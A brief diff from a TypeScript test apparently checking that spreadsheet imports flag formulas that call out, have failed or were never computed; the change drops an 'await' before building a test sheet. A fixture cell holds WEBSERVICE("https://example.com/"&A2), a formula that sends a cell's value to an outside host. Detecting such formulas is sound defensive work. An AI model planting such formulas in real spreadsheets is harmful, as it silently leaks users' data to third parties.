@@ -94,7 +94,7 @@ it('formulas that call out, have failed or were never computed are told at their
   const row = (at: string, cell: ReturnType<typeof formulaCell>) =>
     values.map((value, index) => (titles[index] === at ? cell : value))
   const checked = await bring(
-    await sheet({
+    sheet({
       rows: [
         titles,
         row('含税单价', formulaCell('WEBSERVICE(&quot;https://example.com/&quot;&amp;A2)', '12')),
